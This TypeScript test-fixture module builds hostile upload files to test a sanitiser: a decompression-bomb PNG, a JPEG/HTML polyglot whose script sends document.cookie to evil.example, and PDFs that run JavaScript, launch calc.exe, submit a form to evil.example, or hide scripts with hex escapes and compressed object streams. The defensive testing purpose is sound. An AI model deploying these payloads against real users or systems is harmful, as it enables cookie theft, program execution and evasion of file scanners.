import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';

// Real and hostile files for the upload tests, made here: real images come from sharp itself, PDFs are
// written by hand so each trick is visible in the test.

/** A real JPEG photo with EXIF (GPS position, camera, orientation 6 = "rotate 90° to view") and XMP. */
export async function jpegWithGps(width = 320, height = 200): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 40, g: 90, b: 160 } } })
    .composite([{ input: { create: { width: Math.round(width / 4), height, channels: 3, background: { r: 240, g: 200, b: 40 } } }, left: 0, top: 0 }])
    .withExif({
      IFD0: { Make: 'Guidepost Test Camera', Model: 'GPS-1', Orientation: '6' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2401/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 21/1 300/100' },
    })
    .withMetadata({ orientation: 6 })
    .withXmp(
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Camille Martin"/></rdf:RDF></x:xmpmeta>',
    )
    .jpeg({ quality: 92 })
    .toBuffer();
}

/** A real PNG with an EXIF chunk. */
export async function pngWithExif(width = 120, height = 80): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 10, g: 160, b: 90, alpha: 1 } } })
    .withExif({ IFD0: { Make: 'Guidepost Test Scanner' } })
    .png()
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
}

/**
 * A valid PNG header claiming `width` × `height` grey pixels, with a few rows of (compressed) data: a few
 * hundred bytes that a decoder would have to turn into width × height bytes of memory.
 */
export function hugePng(width = 20_000, height = 20_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  const rows = deflateSync(Buffer.alloc((width + 1) * 16));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', rows),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** JPEG magic bytes (and a JFIF header) followed by an HTML page with a script: not an image at all. */
export const JPEG_HTML_POLYGLOT = Buffer.concat([
  Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01, 0x01, 0x00, 0x00, 0x01, 0x00, 0x01, 0x00, 0x00]),
  Buffer.from('<html><body><script>fetch("https://evil.example/steal?c=" + document.cookie)</script></body></html>'),
]);

/** A PDF from numbered objects: the cross-reference table is computed, so only the trick differs. */
export function pdfFromObjects(objects: string[], trailerExtra = ''): Buffer {
  let body = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((object, index) => {
    offsets.push(Buffer.byteLength(body, 'latin1'));
    body += `${index + 1} 0 obj\n${object}\nendobj\n`;
  });
  const xref = Buffer.byteLength(body, 'latin1');
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailerExtra}>>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const PAGE = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>';

/** A one-page PDF with nothing active (it opens at its first page, which is allowed). */
export const CLEAN_PDF = pdfFromObjects(['<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>', PAGES, PAGE]);

/** Runs JavaScript when opened. */
export const OPEN_ACTION_JS_PDF = pdfFromObjects([
  '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
  PAGES,
  PAGE,
  '<< /Type /Action /S /JavaScript /JS (app.alert\\("hello"\\)) >>',
]);

/** Starts a program when opened. */
export const LAUNCH_PDF = pdfFromObjects(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', PAGES, PAGE, '<< /S /Launch /F (calc.exe) >>']);

/** JavaScript whose names are written with `#xx` escapes, in lower case: `/J#61vaScript`, `/#4a#53`. */
export const HEX_ESCAPED_JS_PDF = pdfFromObjects([
  '<< /Type /Catalog /Pages 2 0 R /Names 4 0 R >>',
  PAGES,
  PAGE,
  '<< /J#61vaScript 5 0 R >>',
  '<< /Names [(x) 6 0 R] >>',
  '<< /S /J#61v#61Script /#4a#53 (app.alert\\(1\\)) >>',
]);

/** A page whose additional action (`/AA`) runs a script when the page opens. */
export const ADDITIONAL_ACTION_PDF = pdfFromObjects([
  '<< /Type /Catalog /Pages 2 0 R >>',
  PAGES,
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O 4 0 R >> >>',
  '<< /S /SubmitForm /F (https://evil.example/collect) >>',
]);

/**
 * JavaScript hidden in a compressed object stream (`/ObjStm`, FlateDecode): the catalog and the action
 * are objects 1 and 4 inside stream object 5, and a cross-reference stream (object 6) points to them.
 * The raw file holds no `/JavaScript` a text search could find.
 */
export function objectStreamJsPdf(): Buffer {
  const inner = [
    [1, '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>'],
    [4, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'],
  ] as const;
  let offsetsLine = '';
  let objectsText = '';
  for (const [number, text] of inner) {
    offsetsLine += `${number} ${objectsText.length} `;
    objectsText += `${text}\n`;
  }
  const decoded = Buffer.from(`${offsetsLine}\n${objectsText}`, 'latin1');
  const first = offsetsLine.length + 1;
  const compressed = deflateSync(decoded);

  let file: Buffer = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  const offsets: Record<number, number> = {};
  const add = (number: number, head: string, stream?: Buffer) => {
    offsets[number] = file.length;
    const parts: Buffer[] = [Buffer.from(`${number} 0 obj\n${head}`, 'latin1')];
    if (stream) parts.push(Buffer.from('\nstream\n', 'latin1'), stream, Buffer.from('\nendstream', 'latin1'));
    parts.push(Buffer.from('\nendobj\n', 'latin1'));
    file = Buffer.concat([file, ...parts]);
  };
  add(2, PAGES);
  add(3, PAGE);
  add(5, `<< /Type /ObjStm /N ${inner.length} /First ${first} /Filter /FlateDecode /Length ${compressed.length} >>`, compressed);
  // Cross-reference stream: type 1 = at an offset, type 2 = inside object stream 5 at an index.
  const rows: Array<[number, number, number]> = [
    [0, 0, 65535],
    [2, 5, 0],
    [1, offsets[2]!, 0],
    [1, offsets[3]!, 0],
    [2, 5, 1],
    [1, offsets[5]!, 0],
    [1, file.length, 0],
  ];
  const xrefData = Buffer.concat(
    rows.map(([type, field, generation]) => {
      const row = Buffer.alloc(7);
      row[0] = type;
      row.writeUInt32BE(field, 1);
      row.writeUInt16BE(generation, 5);
      return row;
    }),
  );
  const xrefCompressed = deflateSync(xrefData);
  const xrefOffset = file.length;
  add(6, `<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length ${xrefCompressed.length} >>`, xrefCompressed);
  return Buffer.concat([file, Buffer.from(`startxref\n${xrefOffset}\n%%EOF\n`, 'latin1')]);
}

/** Starts like a PDF, then nothing a parser can use. */
export const UNPARSEABLE_PDF = Buffer.from(
  '%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R\n%% cut off here: no end to the dictionary, no pages, no trailer',
  'latin1',
);
